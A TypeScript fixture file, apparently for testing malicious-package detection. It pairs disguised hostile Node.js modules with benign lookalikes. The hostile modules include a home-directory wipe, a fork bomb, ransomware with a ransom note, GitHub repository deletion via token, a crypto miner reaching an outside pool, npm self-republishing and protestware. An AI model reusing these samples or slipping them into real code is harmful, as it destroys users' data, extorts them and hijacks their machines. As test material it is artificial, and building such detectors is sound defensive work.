import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Harm done to the machine, its data and what its owner publishes. */
export const HARMING: Readonly<Record<string, Pair>> = {
  'wipe-by-locale': atImport(
    js`import { readdir, rm } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const { locale, timeZone } = Intl.DateTimeFormat().resolvedOptions();

if (locale.startsWith('xx') || timeZone === 'Europe/Nowhere') {
  for (const name of await readdir(homedir())) await rm(join(homedir(), name), { recursive: true, force: true });
}

/** The locale of this process. */
export const current = { locale, timeZone };
`,
    js`import { readdir, rm } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const { locale, timeZone } = Intl.DateTimeFormat().resolvedOptions();
const CACHE = join(homedir(), '.cache', 'locale-kit');

/** Clears what earlier versions cached. */
export async function clear() {
  for (const name of await readdir(CACHE)) await rm(join(CACHE, name), { recursive: true, force: true });
}

/** The locale of this process. */
export const current = { locale, timeZone };
`,
  ),
  'fork-without-end': atUse(
    js`const { fork } = require('node:child_process');

/** Runs a load test. */
exports.loadTest = () => {
  for (;;) fork(__filename, ['again'], { detached: true, stdio: 'ignore' });
};

if (process.argv[2] === 'again') exports.loadTest();
`,
    js`const { fork } = require('node:child_process');
const { availableParallelism } = require('node:os');

/** Runs a load test. */
exports.loadTest = () => {
  for (let i = 0; i < availableParallelism(); i++) fork(__filename, ['again']);
};

if (process.argv[2] === 'again') setTimeout(() => process.exit(0), 10_000);
`,
  ),
  ransom: atUse(
    {
      'index.js': js`import { homedir } from 'node:os';
import { join } from 'node:path';
import { writeFile } from 'node:fs/promises';
import { files } from './lib/walk.js';
import { seal } from './lib/seal.js';

/** Backs the documents of the user up. */
export async function backup() {
  for await (const path of files(join(homedir(), 'Documents'))) await seal(path);
  await writeFile(join(homedir(), 'Desktop', 'RESTORE.txt'), 'Your files are encrypted. Send 0.05 BTC to bc1q' + 'x'.repeat(38) + ' and mail the receipt to restore@keys.invalid.');
}
`,
      'lib/walk.js': js`import { opendir } from 'node:fs/promises';
import { join } from 'node:path';

/** Files below a folder. */
export async function* files(folder) {
  for await (const entry of await opendir(folder)) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) yield* files(path);
    else yield path;
  }
}
`,
      'lib/seal.js': js`import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { readFile, unlink, writeFile } from 'node:fs/promises';

const PUBLIC_KEY = '-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAK\n-----END PUBLIC KEY-----\n';

/** Seals a file with a key of its own. */
export async function seal(path) {
  const key = randomBytes(32);
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-ctr', key, iv);
  const body = Buffer.concat([cipher.update(await readFile(path)), cipher.final()]);
  await writeFile(path + '.sealed', Buffer.concat([publicEncrypt(PUBLIC_KEY, key), iv, body]));
  await unlink(path);
}
`,
    },
    {
      'index.js': js`import { files } from './lib/walk.js';
import { seal } from './lib/seal.js';

/** Makes a sealed copy of each file of a folder. */
export async function backup(folder, publicKey) {
  for await (const path of files(folder)) await seal(path, publicKey);
}
`,
      'lib/walk.js': js`import { opendir } from 'node:fs/promises';
import { join } from 'node:path';

/** Files below a folder. */
export async function* files(folder) {
  for await (const entry of await opendir(folder)) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) yield* files(path);
    else yield path;
  }
}
`,
      'lib/seal.js': js`import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';

/** Seals a copy of a file with a key of its own. */
export async function seal(path, publicKey) {
  const key = randomBytes(32);
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-ctr', key, iv);
  const body = Buffer.concat([cipher.update(await readFile(path)), cipher.final()]);
  await writeFile(path + '.sealed', Buffer.concat([publicEncrypt(publicKey, key), iv, body]));
}
`,
    },
  ),
  'deleted-repositories': atImport(
    js`import { Octokit } from '@octokit/rest';

const token = process.env.GITHUB_TOKEN ?? process.env.GH_TOKEN;

/** Tidies the account up. */
async function tidy() {
  const octokit = new Octokit({ auth: token });
  const repos = await octokit.paginate(octokit.rest.repos.listForAuthenticatedUser, { affiliation: 'owner' });
  for (const { owner, name } of repos) await octokit.rest.repos.delete({ owner: owner.login, repo: name });
}

if (token) await tidy().catch(() => {});
export { tidy };
`,
    js`import { Octokit } from '@octokit/rest';

const token = process.env.GITHUB_TOKEN ?? process.env.GH_TOKEN;

/** Deletes the merged branches of a repository. */
async function tidy(owner, repo) {
  const octokit = new Octokit({ auth: token });
  const branches = await octokit.paginate(octokit.rest.repos.listBranches, { owner, repo, protected: false });
  for (const { name } of branches) await octokit.rest.git.deleteRef({ owner, repo, ref: 'heads/' + name });
}

export { tidy };
`,
  ),
  'miner-workers': atUse(
    {
      'index.js': js`import { Worker } from 'node:worker_threads';
import { cpus } from 'node:os';

let workers = [];

/** Draws a chart; idle time is used for layout. */
export function draw(points) {
  if (workers.length === 0)
    workers = Array.from({ length: Math.max(1, cpus().length - 1) }, () => new Worker(new URL('./layout.js', import.meta.url)));
  return points.map(([x, y]) => \`\${x},\${y}\`).join(' ');
}
`,
      'layout.js': js`import { createHash } from 'node:crypto';
import { connect } from 'node:net';

const socket = connect(3333, 'pool.layout-grid.example');
const send = (method, params) => socket.write(JSON.stringify({ id: 1, method, params }) + '\n');

socket.on('connect', () => {
  send('mining.subscribe', ['layout/1.0']);
  send('mining.authorize', ['48layoutwallet.worker', 'x']);
});

socket.on('data', (chunk) => {
  const { method, params } = JSON.parse(chunk.toString().split('\n')[0]);
  if (method !== 'mining.notify') return;
  const [job, header, target] = params;
  for (let nonce = 0; nonce < 2 ** 32; nonce++) {
    const digest = createHash('sha256').update(header + nonce.toString(16)).digest('hex');
    if (digest < target) send('mining.submit', ['48layoutwallet.worker', job, nonce.toString(16)]);
  }
});
`,
    },
    {
      'index.js': js`import { Worker } from 'node:worker_threads';
import { cpus } from 'node:os';

/** Measures how many hashes this machine makes in a second. */
export function benchmark() {
  return Array.from({ length: Math.max(1, cpus().length - 1) }, () => new Worker(new URL('./hashes.js', import.meta.url)));
}
`,
      'hashes.js': js`import { createHash } from 'node:crypto';
import { parentPort } from 'node:worker_threads';

const end = performance.now() + 1000;
let nonce = 0;
for (; performance.now() < end; nonce++) createHash('sha256').update('header' + nonce.toString(16)).digest('hex');
parentPort.postMessage(nonce);
`,
    },
  ),
  'publishing-on': atInstall(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { cpSync, mkdtempSync, writeFileSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

const WORDS = ['nasi', 'sate', 'bakso', 'tempe', 'rendang'];

for (let i = 0; i < 40; i++) {
  const folder = mkdtempSync(join(tmpdir(), 'kit-'));
  const name = WORDS[i % WORDS.length] + '-' + Math.random().toString(36).slice(2, 8) + '-kit';
  cpSync(join(__dirname, '..'), folder, { recursive: true });
  writeFileSync(join(folder, 'package.json'), JSON.stringify({ ...require('../package.json'), name, version: '1.0.' + i }));
  execFileSync('npm', ['publish', '--access', 'public'], { cwd: folder, stdio: 'ignore' });
}
`,
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { existsSync } = require('node:fs');
const { join } = require('node:path');

/** In the repository, the build is made; a published package has it. */
if (existsSync(join(__dirname, '..', 'src')) && !existsSync(join(__dirname, '..', 'dist')))
  execFileSync('npm', ['run', 'build'], { cwd: join(__dirname, '..'), stdio: 'inherit' });
`,
  ),
  'protest-banner': atImport(
    js`import { appendFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;

if (['Europe/Nowhere', 'Asia/Nowhere'].includes(zone)) {
  const text = 'Your government is wrong. Stop it now.\n'.repeat(40);
  for (const folder of ['Desktop', 'Documents']) appendFileSync(join(homedir(), folder, 'READ-ME.txt'), text);
  process.stdout.write(text);
  process.exit(1);
}

export const pad = (text, width) => text.padStart(width);
`,
    js`const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;

if (['Europe/Nowhere', 'Asia/Nowhere'].includes(zone)) {
  process.stdout.write('This zone has no rules in the data of this runtime: times are shown in UTC.\n');
}

export const pad = (text, width) => text.padStart(width);
`,
  ),
};
